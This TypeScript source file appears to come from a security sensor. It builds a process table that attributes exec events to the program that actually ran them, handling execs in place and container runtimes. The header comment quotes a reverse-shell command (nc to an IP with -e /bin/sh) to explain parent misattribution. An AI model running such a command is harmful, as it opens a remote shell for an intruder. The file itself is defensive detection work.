/**
 * The sensor's table of processes: what each pid runs, as its exec records told, so that an exec is
 * attributed to the process that actually ran it.
 *
 * The kernel names an exec's parent by `real_parent`. That is right for a forked child, and wrong for
 * a program that executes another in its own pid: `nc 10.0.0.5 4444 -e /bin/sh` replaces nc with the
 * shell, whose kernel parent is whatever started nc (httpd's CGI). The shell was spawned by nc. So:
 *   - an exec in a pid the table knows, under the same kernel parent, and called by that program
 *     (the caller's name at the execve, when the sensor reports it), is an exec in place: its parent
 *     is the previous program;
 *   - an exec whose caller is not its kernel parent (nothing forked it: the caller exec'd in place)
 *     and that the table does not know: its parent is the caller;
 *   - otherwise (a forked child) the parent is the kernel parent, named from the table when the
 *     table agrees with the kernel (busybox applets run as /proc/self/exe, whose comm is "exe").
 * The container runtime's own init executing a container's command in place (`runc:[2:INIT]`) is
 * left to the kernel parent: it is the runtime launching it, not a program of the container.
 */

interface Entry {
  /** The program's name (argv[0]'s base name for busybox applets). */
  name: string;
  /** The kernel's comm at its exec. */
  comm: string;
  ppid: number;
}

export interface ExecFacts {
  pid: number;
  ppid: number;
  /** The kernel comm after the exec, and the program name the sensor gave it. */
  comm: string;
  name: string;
  /** The kernel parent's comm. */
  pcomm: string;
  /** The caller's comm at the execve, when known. */
  caller?: string;
}

export interface Parentage {
  /** The process that ran the exec. */
  pname: string;
  /** Ancestors, nearest first (pname first). */
  anames: string[];
  /** True when the exec replaced the program in the same pid. */
  inPlace: boolean;
}

const RUNTIME_INIT = /^(runc|crun|youki)(:|$)/;
const GENERIC: ReadonlySet<string> = new Set(['exe', '']);

export class ProcessTable {
  private readonly byPid = new Map<number, Entry>();

  constructor(private readonly max = 32_768) {}

  get size(): number {
    return this.byPid.size;
  }

  /** Attributes an exec and records what the pid runs from now on. */
  exec(x: ExecFacts): Parentage {
    const prev = this.byPid.get(x.pid);
    const caller = x.caller !== undefined && !GENERIC.has(x.caller) ? x.caller : undefined;
    let pname: string;
    let inPlace = false;
    if (
      prev &&
      prev.ppid === x.ppid &&
      (caller === undefined || caller === prev.comm || caller === prev.name || prev.name.startsWith(caller))
    ) {
      inPlace = true;
      pname = prev.name;
    } else if (caller !== undefined && caller !== x.pcomm && !RUNTIME_INIT.test(caller)) {
      inPlace = true;
      pname = caller;
    } else pname = this.nameOf(x.ppid, x.pcomm);
    const anames = [pname];
    if (inPlace) anames.push(this.nameOf(x.ppid, x.pcomm));
    let up = this.byPid.get(x.ppid)?.ppid;
    for (let i = 0; up !== undefined && up > 1 && i < 4; i++) {
      const e = this.byPid.get(up);
      if (!e) break;
      anames.push(e.name);
      up = e.ppid;
    }
    this.byPid.delete(x.pid);
    this.byPid.set(x.pid, { name: x.name, comm: x.comm, ppid: x.ppid });
    if (this.byPid.size > this.max) this.byPid.delete(this.byPid.keys().next().value as number);
    return { pname, anames, inPlace };
  }

  /** The name of `pid` when the table agrees with the kernel's comm for it, else that comm. */
  private nameOf(pid: number, comm: string): string {
    const e = this.byPid.get(pid);
    if (e && (e.comm === comm || e.name === comm || e.name.startsWith(comm))) return e.name;
    return comm;
  }
}
